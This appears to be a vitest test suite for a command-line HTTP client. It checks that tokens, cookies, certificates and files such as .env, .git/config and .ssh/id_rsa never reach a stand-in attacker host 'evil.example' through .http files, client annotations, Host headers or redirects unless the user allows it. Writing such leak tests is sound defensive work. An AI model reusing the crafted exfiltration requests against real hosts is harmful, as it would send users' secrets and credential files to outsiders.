/**
 * What leaves the machine where a repository names the host: nothing of the user's own, however the host is spelled and
 * on whichever way. The server elsewhere is a proxy of this machine, so that names lead to it that nobody looks up.
 */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { spellings } from '../../packages/engine/src/client/send/http/spellings.fixture.ts';
import {
  serveHttp,
  serveProxy,
  type TestServer,
} from '../../packages/engine/src/node/http/loopback.fixture.ts';
import { type BuiltCli, openCli } from './run-cli.ts';

const elsewhere = 'evil.example:8080';
let cli: BuiltCli;
let here: TestServer;
let other: TestServer;
/** All that arrived elsewhere: request line, headers and body. */
const stolen: string[] = [];
const arrivedHere: string[] = [];
/** Where this machine's server redirects to, with which status. */
let redirect: readonly [status: number, location: string] | undefined;

beforeAll(async () => {
  cli = openCli();
  here = await serveHttp((request, response) => {
    arrivedHere.push(request.url ?? '');
    request.resume();
    if (redirect !== undefined && !request.url?.startsWith('/landed'))
      response.writeHead(redirect[0], { Location: redirect[1] });
    else response.setHeader('Set-Cookie', 'sid=canary-cookie');
    response.end('{"token": "canary-answer"}');
  });
  other = await serveProxy(
    async (request, response) => {
      let text = `${request.method} ${request.url} ${request.rawHeaders.join(' ')}`;
      for await (const chunk of request) text += String(chunk);
      stolen.push(text);
      response.end('ok');
    },
    (to) => stolen.push(`CONNECT ${to}`),
  );
}, 60_000);
afterAll(async () => {
  await here?.close();
  await other?.close();
  cli?.dispose();
});

beforeEach(() => {
  stolen.length = 0;
  arrivedHere.length = 0;
  redirect = undefined;
});

let projects = 0;
/** The command in a project of its own. */
async function run(
  files: Readonly<Record<string, string>>,
  words: readonly string[],
  cwd = '.',
): Promise<{ readonly status: number | null; readonly said: string }> {
  const folder = path.join(cli.scratch, `given-${++projects}`);
  const all: Readonly<Record<string, string>> = {
    'http-client.env.json': JSON.stringify({ dev: { local: here.url } }),
    'http-client.private.env.json': JSON.stringify({ dev: { token: 'canary-private' } }),
    ...files,
  };
  for (const [name, text] of Object.entries(all)) {
    mkdirSync(path.dirname(path.join(folder, name)), { recursive: true });
    writeFileSync(path.join(folder, name), text);
  }
  const proxied = {
    https_proxy: other.url,
    HTTPS_PROXY: other.url,
    http_proxy: other.url,
    HTTP_PROXY: other.url,
    no_proxy: '',
    NO_PROXY: '',
  };
  const { status, stdout, stderr } = await cli.runBeside(words, {
    cwd: path.join(folder, cwd),
    env: proxied,
  });
  return { status, said: `${stdout}${stderr}` };
}

const runFile = (text: string, ...options: readonly string[]) =>
  run({ 'a.http': text }, ['run', 'a.http', '--env', 'dev', ...options]);

/** `http://one/x`, as a line of a request and a Host header. */
function asHostLine(url: string): string {
  const [, host = '', rest = ''] = /^[^/\\]*[/\\]{0,2}(.*?)(\/x)$/s.exec(url) ?? [];
  return `GET ${rest}?q={{token}}\nHost: ${host}`;
}

const all = spellings(elsewhere, '127.0.0.1');
/** Those that stay on one line of a file. */
const inOneLine = all.filter(([, url]) => !/[\r\n]/.test(url));

test('S1: a host of a file gets no private value, credential, cookie, file or certificate', async () => {
  const ways = (url: string): readonly string[] => [
    `GET ${url}?q={{token}}`,
    asHostLine(url),
    `GET ${url}\nAuthorization: Bearer {{token}}`,
    `GET ${url}\nAccept: {{token}}`,
    `POST ${url}\n\n< ./body.json`,
    `@there${projects++} = ${url}\nGET {{there${projects - 1}}}?q={{token}}`,
  ];
  const text = inOneLine.flatMap(([how, url]) => ways(url).map((each) => `### ${how}\n${each}\n`)).join('\n');
  const jar = `# origin http://${elsewhere}\nevil.example\tFALSE\t/\tFALSE\t0\tsid\tcanary-jar\n`;
  const files = { 'a.http': text, 'body.json': 'canary-file', jar };
  const { said } = await run(files, ['run', 'a.http', '--env', 'dev', '--cookie-jar', 'jar']);
  expect(stolen).toEqual([]);
  expect(said).not.toContain('200 OK');
  const plain = inOneLine.map(([how, url]) => `### ${how}\nGET ${url}\n`).join('\n');
  for (const option of [
    ['--user', 'ann:canary-user'],
    ['--oauth2-bearer', 'canary-bearer'],
  ]) {
    await run({ 'a.http': plain }, ['run', 'a.http', ...option, '--allow-net', 'other.example']);
    expect(stolen).toEqual([]);
  }
});

test('S1: no certificate is shown to a host of a file', async () => {
  const secure = inOneLine.map(([how, url]) => [how, url.replace(/^http/i, 'https')] as const);
  const text = secure.map(([how, url]) => `### ${how}\nGET ${url}\n`).join('\n');
  const certificate = path.join(import.meta.dirname, '../../fixtures/send/self-signed');
  const files = {
    'a.http': text,
    'own.pem': readFileSync(`${certificate}.pem`, 'utf8'),
    'key.pem': readFileSync(`${certificate}.key.pem`, 'utf8'),
  };
  const options = ['--cert', 'own.pem', '--key', 'key.pem'];
  const { said } = await run(files, ['run', 'a.http', ...options]);
  // Plain http shows none.
  expect(stolen.filter((line) => line.startsWith('CONNECT'))).toEqual([]);
  expect(said).toContain('the certificate of --cert would go there');
  await run(files, ['run', 'a.http', ...options, '--allow-net', elsewhere]);
  // Where the user agrees, a connection is asked for.
  expect(stolen).toContain(`CONNECT ${elsewhere}`);
});

test('S1: a host that the user allows gets what the file says, however it is spelled', async () => {
  const spelled = [`http://${elsewhere}/x`, `http://@${elsewhere}/x`, 'http://EVIL\uff0eexample:8080/x'];
  for (const url of spelled) {
    const { status } = await runFile(`GET ${url}?q={{token}}`, '--allow-net', elsewhere);
    expect(status).toBe(0);
    expect(stolen.splice(0).join()).toMatch(/^GET http:\/\/evil\.example:8080\/x\?q=canary-private /);
  }
});

test('S1: a host of an environment or a client gets nothing by send', async () => {
  const bearer = ['-H', 'Authorization: Bearer canary-7'];
  const sendBoth = async (url: string) => {
    const host = JSON.stringify(url);
    const files = {
      'Orders.java': `@FeignClient(name = "o", url = ${host}) interface Orders { @GetMapping("/orders") String all(); }`,
      'http-client.env.json': `{"dev": {"baseUrl": ${host}}}`,
    };
    await run(files, ['send', 'GET /orders', '.', ...bearer]);
    await run(files, ['send', 'GET /orders', '.', '--env', 'dev', ...bearer]);
  };
  for (let at = 0; at < all.length; at += 4) {
    const batch = all.slice(at, at + 4);
    await Promise.all(batch.map(([, url]) => sendBoth(url)));
    expect([batch, stolen]).toEqual([batch, []]);
  }
}, 120_000);

describe('S2: cookies', () => {
  const jar = [
    `# origin http://bank.example:80\nbank.example\tFALSE\t/\tFALSE\t0\tsid\tcanary-host`,
    '.bank.example\tTRUE\t/\tFALSE\t0\twide\tcanary-domain',
  ].join('\n');

  test.each(['bank.example', 'BANK.example', 'x.bank.example', 'bank.example:80', 'u@bank.example'])(
    'of %s go nowhere else by a Host header',
    async (host) => {
      await run({ 'a.http': `GET http://${elsewhere}/\nHost: ${host}`, jar }, [
        'run',
        'a.http',
        '--cookie-jar',
        'jar',
      ]);
      expect(stolen.join()).not.toContain('canary');
      const client = `@FeignClient(name = "o", url = "http://${elsewhere}") interface O {
        @GetMapping(value = "/fe", headers = "Host=${host}") String all(); }`;
      await run({ 'O.java': client, jar }, ['send', 'GET /fe', '.', '--cookie-jar', 'jar']);
      expect(stolen.join()).not.toContain('canary');
    },
  );

  test('of a session with this machine stay there', async () => {
    const own = here.url.replace('http://', '');
    await runFile(
      `### in\nGET {{local}}/login?p={{token}}\n\n### out\nGET http://${elsewhere}/\nHost: ${own}\n`,
    );
    expect(arrivedHere).toEqual(['/login?p=canary-private']);
    expect(stolen.join()).not.toContain('canary');
  });
});

describe('S3: a file', () => {
  const form = (file: string) =>
    `POST http://${elsewhere}/\nContent-Type: multipart/form-data; boundary=b\n\n--b\nContent-Disposition: form-data; name="f"; filename="f"\n\n< ${file}\n--b--\n`;
  const files = { '.env': 'canary-env', '.git/config': 'canary-git', 'data.json': 'canary-data' };

  test.each(['http-client.private.env.json', '.env', '.git/config', './.git/../.env'])(
    '%s is never sent, to a host that the user allows either',
    async (file) => {
      for (const text of [
        `POST http://${elsewhere}/\n\n< ${file}`,
        `POST http://${elsewhere}/\n\n<@ ${file}`,
        form(file),
      ]) {
        const { said } = await run({ ...files, 'a.http': text }, ['run', 'a.http', '--allow-net', elsewhere]);
        expect(stolen).toEqual([]);
        expect(said).toContain('stays on this machine');
      }
    },
  );

  test('of the repository goes where the user allows it, and the question names it', async () => {
    for (const text of [`POST http://${elsewhere}/\n\n< data.json`, form('data.json')]) {
      const inRepository = { ...files, 'a.http': text };
      const { said } = await run(inRepository, ['run', 'a.http']);
      expect(stolen).toEqual([]);
      expect(said).toContain(
        `The host http://${elsewhere} is named by the project, not by you, and the file data.json would go there. ` +
          `Nothing was sent. Allow it with --allow-net ${elsewhere}.`,
      );
      await run(inRepository, ['run', 'a.http', '--allow-net', elsewhere]);
      expect(stolen.splice(0).join()).toContain('canary-data');
    }
  });

  test('beside the project is out of reach, wherever the command runs', async () => {
    const text = `POST ${here.url}/\n\n< .ssh/id_rsa\n\n### two\nPOST ${here.url}/\n\n< notes.txt`;
    const home = { '.ssh/id_rsa': 'canary-key', 'notes.txt': 'canary-notes', 'project/a.http': text };
    const { said, status } = await run(home, ['run', 'project']);
    expect([status, arrivedHere]).toEqual([1, []]);
    expect(said).toContain('lies neither below the folder of the .http file nor in its repository');
  });

  test('that the user sends is named as well, where the project names the host', async () => {
    const source = `import org.springframework.web.multipart.*;
      @RestController class U { @PostMapping("/up") void up(@RequestParam MultipartFile f) {}
      @PostMapping("/text") void text(@RequestBody String body) {} }`;
    const environment = JSON.stringify({ dev: { baseUrl: `http://${elsewhere}` } });
    const project = { 'U.java': source, 'http-client.env.json': environment, 'note.txt': 'canary-note' };
    for (const words of [
      ['POST /up', '.', '-p', 'f=note.txt'],
      ['POST /text', '.', '-d', '@note.txt'],
    ]) {
      const { said } = await run(project, ['send', ...words, '--env', 'dev']);
      expect(stolen).toEqual([]);
      expect(said).toContain('the file note.txt would go there');
    }
  });

  test('is never chosen by the source', async () => {
    const source = `import org.springframework.web.multipart.*;
      import io.swagger.v3.oas.annotations.Parameter;
      @RestController class U { @PostMapping("/up")
      void up(@Parameter(example = ".env") @RequestParam MultipartFile f) {} }`;
    const { said } = await run({ ...files, 'U.java': source }, ['send', 'POST /up', '.', '--host', here.url]);
    expect(arrivedHere).toEqual([]);
    expect(said).toContain('file');
  });
});

describe('S4: a redirect', () => {
  test.each([301, 302, 303, 307, 308])('with %i carries nothing of the user elsewhere', async (status) => {
    redirect = [status, `http://${elsewhere}/`];
    const text = (body: string) => `POST {{local}}/\nX-Token: {{token}}\nAccept: {{token}}\n\n${body}`;
    for (const body of ['{"t": "{{token}}"}', '< data.json', '<@ data.json']) {
      await run({ 'data.json': 'canary-file', 'a.http': text(body) }, ['run', 'a.http', '--env', 'dev']);
      expect(arrivedHere.splice(0)).toEqual(['/']);
      expect(stolen.join()).not.toContain('canary');
    }
    const source = '@RestController class P { @PostMapping("/p") void p(@RequestBody String body) {} }';
    for (const body of ['{"password": "canary-password"}', '{"note": "canary-note"}']) {
      const words = ['send', 'POST /p', '.', '--host', here.url, '-L', '-d', body, '-H', 'X-Key: canary-key'];
      await run({ 'P.java': source }, words);
      expect(stolen.join()).not.toContain('canary');
    }
  });

  test('of several hops is judged at each of them', async () => {
    const hop = await serveHttp((request, response) => {
      request.resume();
      response.writeHead(307, { Location: `http://${elsewhere}/` }).end();
    });
    redirect = [308, `${hop.url}/`];
    const { said } = await runFile('POST {{local}}/\n\n{{token}}');
    expect(stolen).toEqual([]);
    expect(said).toContain(
      `The host http://${elsewhere} is named by a redirect, not by you, and {{token}} would go there. ` +
        `Nothing was sent there. Allow it with --allow-net ${elsewhere}.`,
    );
    await runFile('POST {{local}}/\n\n{{token}}', '--allow-net', elsewhere);
    expect(stolen[0]).toContain('canary-private');
    await hop.close();
  });

  test('that has a value in its address is not followed', async () => {
    redirect = [302, `http://${elsewhere}/?q=canary-private`];
    await runFile('GET {{local}}/?q={{token}}');
    expect(stolen).toEqual([]);
  });
});

describe('S13: a host without a value', () => {
  const source =
    '@RestController class H { @GetMapping("/hi/{id}") String hi(@PathVariable String id) { return id; } }';
  test.each<[string, Readonly<Record<string, string>>, string]>([
    [
      'that names nobody',
      { baseUrl: 'http://127.0.0.1:9/{{nope}}' },
      'The value of "baseUrl" names "nope", which has no value.',
    ],
    [
      'that leads back to itself',
      { baseUrl: '{{baseUrl}}' },
      'The value of "baseUrl" leads back to itself, or too far.',
    ],
    [
      'in a circle',
      { baseUrl: '{{a}}', a: '{{baseUrl}}' },
      'The value of "baseUrl" leads back to itself, or too far.',
    ],
    [
      'beside another host',
      { baseUrl: '{{nope}}', host: 'HERE' },
      'The value of "baseUrl" names "nope", which has no value.',
    ],
  ])('%s is sent to nobody, and the variable is named', async (_what, values, message) => {
    const dev = { ...values, ...(values.host && { host: here.url }) };
    const files = { 'H.java': source, 'http-client.env.json': JSON.stringify({ dev }) };
    const sent = await run(files, [
      'send',
      'GET /hi/1',
      '.',
      '--env',
      'dev',
      '-H',
      'Authorization: Bearer x',
    ]);
    expect([sent.status, arrivedHere, stolen]).toEqual([1, [], []]);
    expect(sent.said).toContain(message);
    expect(sent.said).not.toContain('localhost:8080');
    const file = { ...files, 'a.http': 'GET {{baseUrl}}/hi' };
    const ran = await run(file, ['run', 'a.http', '--env', 'dev']);
    expect([ran.status, arrivedHere, stolen]).toEqual([1, [], []]);
    expect(ran.said).toContain('"baseUrl"');
  });

  test.each(['http:///h', 'ftp://h', '#{h}'])(
    'of a client with the url %s is sent to nobody',
    async (url) => {
      const client = `@FeignClient(name = "o", url = "${url}") interface O { @GetMapping("/o") String all(); }`;
      const { status, said } = await run({ 'O.java': client }, ['send', 'GET /o', '.', '-H', 'X: canary']);
      expect([status, stolen]).toEqual([1, []]);
      expect(said).not.toContain('localhost:8080');
    },
  );
});
